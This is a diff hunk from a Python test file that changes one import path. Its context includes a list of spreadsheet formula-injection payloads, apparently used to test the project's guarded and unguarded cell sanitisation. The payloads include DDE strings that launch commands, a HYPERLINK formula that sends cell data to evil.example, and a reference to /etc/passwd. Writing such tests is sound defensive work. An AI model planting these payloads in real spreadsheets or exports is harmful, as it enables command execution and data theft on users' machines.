@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from conftest import Cli
 from fedrec.data import read_table
 from fedrec.data.spreadsheet import guarded, unguarded
-from fedrec.recommend import Recommender, read_history
+from fedrec.serve import Recommender, read_history
 
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|'/C calc'!A0", "+1+cmd|x!A",
             "-2+3+cmd|x!A", "=1+1", "='file:///etc/passwd'#$a.A1", "＝1+1", "'=1+1", "''@a(b)", "\t=1+1"]  # fmt: skip
